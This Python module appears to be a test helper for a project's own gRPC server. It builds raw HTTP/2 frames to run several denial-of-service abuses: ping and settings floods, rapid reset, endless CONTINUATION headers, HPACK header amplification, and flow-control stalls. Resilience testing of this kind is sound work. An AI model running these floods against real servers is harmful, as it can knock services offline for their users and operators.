"""Clients that speak HTTP/2 as nobody should: by hand, over a socket."""

from __future__ import annotations

import contextlib
import socket
from collections.abc import Callable, Iterator
from time import monotonic
from typing import Final

import h2.settings
from hpack import Encoder
from hyperframe.frame import ContinuationFrame, DataFrame, Frame, HeadersFrame, PingFrame, RstStreamFrame, SettingsFrame

PREFACE: Final = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
CHUNK: Final = 65536
SEND_SECONDS: Final = 1.0
"""A server that takes nothing for so long is one that does not take it."""
EMPTY_MESSAGE: Final = b"\0\0\0\0\0"
"""A gRPC message without content."""


class Wire:
    """A connection to a server, written to without asking whether that makes sense."""

    def __init__(self, address: str) -> None:
        host, _, port = address.rpartition(":")
        self.socket = socket.create_connection((host, int(port)), timeout=SEND_SECONDS)
        self.encoder = Encoder()

    def send(self, data: bytes) -> bool:
        """Write bytes, and throw away what the server says; return whether it still takes them."""
        try:
            self.socket.sendall(data)
            with contextlib.suppress(BlockingIOError):
                while self.socket.recv(CHUNK, socket.MSG_DONTWAIT):
                    pass
        except OSError:
            return False
        return True

    def send_deaf(self, data: bytes) -> bool:
        """Write bytes and never read; return whether the server still takes them."""
        try:
            self.socket.sendall(data)
        except OSError:
            return False
        return True

    def end(self, seconds: float) -> bytes:
        """Return all that the server says until it hangs up; raise TimeoutError if it does not."""
        self.socket.settimeout(seconds)
        said = b""
        with contextlib.suppress(ConnectionError):
            while got := self.socket.recv(CHUNK):
                said += got
        return said

    def headers(self, stream: int, path: str, *more: tuple[str, str], end: bool = False) -> HeadersFrame:
        """Write the head of a call."""
        fields = [
            *((":method", "POST"), (":scheme", "http"), (":path", path), (":authority", "x")),
            *(("content-type", "application/grpc"), ("te", "trailers"), ("authorization", "Bearer abuse")),
        ]
        frame = HeadersFrame(stream, self.encoder.encode([*fields, *more]))
        frame.flags |= {"END_HEADERS", "END_STREAM"} if end else {"END_HEADERS"}
        return frame

    def __enter__(self) -> Wire:
        return self

    def __exit__(self, *_: object) -> None:
        self.socket.close()


def serialized(*frames: Frame) -> bytes:
    return b"".join([frame.serialize() for frame in frames])


def greeting(**settings: int) -> bytes:
    """Begin a connection."""
    codes = {getattr(h2.settings.SettingCodes, name.upper()): value for name, value in settings.items()}
    return PREFACE + SettingsFrame(0, settings={int(code): value for code, value in codes.items()}).serialize()


def call(wire: Wire, stream: int, path: str, message: bytes = EMPTY_MESSAGE) -> bytes:
    """Write a whole call."""
    data = DataFrame(stream, message)
    data.flags.add("END_STREAM")
    return serialized(wire.headers(stream, path), data)


def streams(most: int = 2**20) -> Iterator[int]:
    return iter(range(1, most, 2))


def ping_flood(wire: Wire, seconds: float) -> None:
    """Ping as fast as it goes."""
    many = serialized(*[PingFrame(0, bytes(8))] * 1000)
    wire.send(greeting())
    _for(seconds, lambda: wire.send(many))


def settings_flood(wire: Wire, seconds: float) -> None:
    """Change settings as fast as it goes, and do not read that this has been heard."""
    many = serialized(*[SettingsFrame(0, settings={SettingsFrame.INITIAL_WINDOW_SIZE: 65535})] * 1000)
    wire.send(greeting())
    _for(seconds, lambda: wire.send_deaf(many))


def rapid_reset(wire: Wire, seconds: float) -> None:
    """Begin calls and take them back at once."""
    wire.send(greeting())
    numbers = streams()

    def some() -> bool:
        frames: list[Frame] = []
        for stream in [next(numbers) for _ in range(200)]:
            frames += [wire.headers(stream, "/daifugo.v1.RulesService/ListReasons"), RstStreamFrame(stream, 8)]
        return wire.send(serialized(*frames))

    _for(seconds, some)


def huge_headers(wire: Wire, seconds: float) -> None:
    """Go on with the head of a call for ever."""
    wire.send(greeting())
    head = wire.headers(1, "/daifugo.v1.RulesService/ListReasons")
    head.flags.discard("END_HEADERS")
    more = ContinuationFrame(1, Encoder().encode([("filler", "x" * 15000)], huffman=False))
    wire.send(serialized(head))
    _for(seconds, lambda: wire.send(serialized(more)))


def headers_that_unfold(wire: Wire, seconds: float) -> None:
    """Refer again and again to one long header: a few bytes each, and many for whoever writes them out."""
    wire.send(greeting())
    numbers = streams()
    filler = [("filler", "x" * 3000)]

    def some() -> bool:
        path = "/daifugo.v1.RulesService/ListReasons"
        return wire.send(serialized(*[wire.headers(next(numbers), path, *filler * 1000, end=True) for _ in range(5)]))

    _for(seconds, some)


def never_reads(wire: Wire, seconds: float) -> None:
    """Ask for what is long, again and again, and never read an answer."""
    wire.send_deaf(greeting(initial_window_size=2**31 - 1))
    numbers = streams()
    _for(seconds, lambda: wire.send_deaf(_long_answers(wire, numbers)))


def no_window(wire: Wire, seconds: float) -> None:
    """Ask for what is long, and give the answers no room."""
    wire.send(greeting(initial_window_size=0))
    numbers = streams()
    _for(seconds, lambda: wire.send(_long_answers(wire, numbers)))


def _long_answers(wire: Wire, numbers: Iterator[int]) -> bytes:
    """Ask fifty times for all rules, in pages of 200."""
    page = b"\0\0\0\0\3\x08\xc8\x01"
    return b"".join([call(wire, next(numbers), "/daifugo.v1.RulesService/ListRules", page) for _ in range(50)])


def nonsense(wire: Wire, seconds: float) -> None:
    """Say what is no HTTP/2 at all."""
    _for(seconds, lambda: wire.send(b"\xff" * 10_000))


def _for(seconds: float, send: Callable[[], bool]) -> None:
    """Send for so long, or until the server hangs up."""
    end = monotonic() + seconds
    while monotonic() < end and send():
        pass


ABUSES: Final[dict[str, Callable[[Wire, float], None]]] = {
    "a ping flood": ping_flood,
    "a settings flood": settings_flood,
    "rapid reset": rapid_reset,
    "huge headers": huge_headers,
    "headers that unfold": headers_that_unfold,
    "answers that nobody reads": never_reads,
    "answers without room": no_window,
    "nonsense": nonsense,
}
